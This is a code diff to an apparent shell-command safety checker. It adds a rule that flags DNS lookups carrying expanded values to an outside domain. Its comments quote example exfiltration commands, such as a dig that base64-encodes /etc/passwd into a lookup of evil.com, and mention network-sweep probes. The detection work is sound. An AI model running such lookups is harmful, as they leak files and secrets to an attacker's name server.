@@ -241,6 +241,11 @@ const sendsToHost: Rule = ({ prog, args, st }) => {
     danger(st, `sends data to a host the command names (${prog})`);
 };
 
+/** A name whose first label is an expansion, under at least two fixed labels (`$i.d.evil.example`, `${x}.evil.com.`). */
+const EXPANDED_LABEL = /^\$(\w+|\{\w+\})\.[a-z0-9-]+(\.[a-z0-9-]+)+\.?$/i;
+/** The names a local network resolves itself: Kubernetes' and mDNS's, the reserved private suffixes. */
+const LOCAL_DOMAIN = /\.(local|internal|localhost|lan|home\.arpa|localdomain)\.?$/i;
+
 /**
  * Lookups and probes send the names they are given to the network (to DNS servers, to the host):
  * a name built by a command (`dig $(cat /etc/passwd | base64).evil.com`) carries that output out.
@@ -248,6 +253,10 @@ const sendsToHost: Rule = ({ prog, args, st }) => {
 const lookup: Rule = ({ prog, args, st }) => {
   st.repeatable = false;
   if (args.some((a) => a.nested.length > 0)) danger(st, `sends the output of a command to the network in a name it looks up (${prog})`);
+  // A value expanded in front of a fixed domain (`host "$i.x.attacker.example"` in a loop over a
+  // command's output) rides to that domain's name server in the name; a local network's own names stay here.
+  const carried = args.find((a) => EXPANDED_LABEL.test(a.text) && !LOCAL_DOMAIN.test(a.text));
+  if (carried) danger(st, `sends a value to the network in a name it looks up (${prog} ${carried.text})`);
   // A fixed network prefix and a computed rest (`192.168.1.$i`, `10.0.${n}.1`) is one probe of a
   // sweep: run in a loop, it maps every machine of the network.
   const sweep = sweepAddress(args);
